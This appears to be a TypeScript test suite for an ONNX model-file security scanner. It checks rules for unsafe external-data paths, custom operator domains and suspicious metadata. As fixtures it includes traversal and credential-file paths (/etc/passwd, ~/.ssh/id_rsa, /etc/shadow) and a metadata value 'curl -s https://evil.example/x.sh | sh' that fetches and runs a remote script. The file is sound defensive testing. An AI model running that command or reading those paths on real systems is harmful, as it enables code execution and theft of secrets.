/**
 * ONNX scan hook: external data locations (ONNX-001), custom domains and Python ops (ONNX-002),
 * metadata text (META-001); each attack with a near-miss.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { scan, unsafeLocation } from './scan.js';
import { DT, f32, functionProto, graph, modelProto, node, tensorProto, valueInfo, tensorType } from './testing.js';
import { directScan, has, scanFile } from '../../../test/helpers/scan-kit.js';

const io = { inputs: [valueInfo('x', tensorType(DT.FLOAT, [1]))], outputs: [valueInfo('y', tensorType(DT.FLOAT, [1]))] };
const ext = (location: string) => modelProto({ graph: graph({ nodes: [node('Add', ['x', 'w'], ['y'])], initializers: [tensorProto({ name: 'w', dtype: DT.FLOAT, dims: [1], external: { location, offset: 0, length: 4 } })], ...io }) });
const run = (files: Record<string, Uint8Array | string>) => directScan(scan, files, 'model.onnx', 'onnx', 'onnx-protobuf');

describe('ONNX scan hook', () => {
  it('unsafeLocation: escapes after normalisation only', () => {
    for (const bad of ['/etc/passwd', '../../etc/passwd', 'a/../../x', 'C:\\Windows\\win.ini', 'c:x', '\\\\server\\share\\w', 'https://evil.example/w.bin', 'file:///etc/passwd', '~/.ssh/id_rsa', 'a\u0000b']) assert.ok(unsafeLocation(bad), bad);
    for (const ok of ['weights.bin', 'a/../weights.bin', './data/w.bin', 'sub\\w.bin']) assert.equal(unsafeLocation(ok), undefined, ok);
  });

  it('ONNX-001: traversal, absolute and URL locations are high; near-miss: a sibling data file', async () => {
    for (const loc of ['../../etc/passwd', '/etc/passwd', 'a/../../x', 'https://evil.example/w.bin']) {
      const r = await run({ 'model.onnx': ext(loc) });
      assert.equal(r.verdict, 'malicious', loc);
      assert.ok(has(r.all, 'ONNX-001', 'high'), loc);
    }
    const ok = await run({ 'model.onnx': ext('model.onnx.data'), 'model.onnx.data': f32(1) });
    assert.equal(ok.verdict, 'benign');
    assert.deepEqual(ok.all.filter((f) => f.rule === 'ONNX-001'), []);
    const missing = await run({ 'model.onnx': ext('a/../w.bin') });
    assert.ok(has(missing.all, 'ONNX-001', 'low'));
    assert.equal(missing.verdict, 'benign');
  });

  it('ONNX-002: custom domains and Python ops are medium; com.microsoft and model-local functions are not', async () => {
    const custom = modelProto({ opsets: [['', 17], ['evil.ops', 1]], graph: graph({ nodes: [node('Backdoor', ['x'], ['y'], { domain: 'evil.ops' })], ...io }) });
    const r = await run({ 'model.onnx': custom });
    assert.equal(r.verdict, 'suspicious');
    assert.ok(r.all.some((f) => f.rule === 'ONNX-002' && f.evidence.includes('Backdoor')));
    const py = modelProto({ opsets: [['', 17], ['ai.onnx.contrib', 1]], graph: graph({ nodes: [node('PyOp', ['x'], ['y'], { domain: 'ai.onnx.contrib' })], ...io }) });
    assert.ok((await run({ 'model.onnx': py })).all.some((f) => f.rule === 'ONNX-002' && f.evidence.includes('Python op')));
    const ms = modelProto({ opsets: [['', 17], ['com.microsoft', 1]], graph: graph({ nodes: [node('FusedGemm', ['x'], ['y'], { domain: 'com.microsoft' })], ...io }) });
    assert.equal((await run({ 'model.onnx': ms })).verdict, 'benign');
    const local = modelProto({ opsets: [['', 17], ['local', 1]], graph: graph({ nodes: [node('MyRelu', ['x'], ['y'], { domain: 'local' })], ...io }), functions: [functionProto('MyRelu', 'local', [node('Relu', ['x'], ['y'])])] });
    const lr = await run({ 'model.onnx': local });
    assert.equal(lr.verdict, 'benign');
    assert.ok(has(lr.all, 'ONNX-002', 'info'));
  });

  it('META-001: metadata_props with a shell command is medium; a plain URL is info', async () => {
    const bad = modelProto({ graph: graph({ nodes: [node('Relu', ['x'], ['y'])], ...io }), metadata: [['install', 'curl -s https://evil.example/x.sh | sh']] });
    assert.ok(has((await run({ 'model.onnx': bad })).all, 'META-001', 'medium'));
    const ok = modelProto({ graph: graph({ nodes: [node('Relu', ['x'], ['y'])], ...io }), metadata: [['source', 'https://huggingface.co/org/model']] });
    const r = await run({ 'model.onnx': ok });
    assert.equal(r.verdict, 'benign');
    assert.ok(has(r.all, 'META-001', 'info'));
  });

  it('end to end: identified and judged through scanSource', async () => {
    const r = await scanFile({ 'model.onnx': ext('../../../../etc/shadow') }, 'model.onnx');
    assert.equal(r.format?.id, 'onnx');
    assert.equal(r.verdict, 'malicious');
  });
});
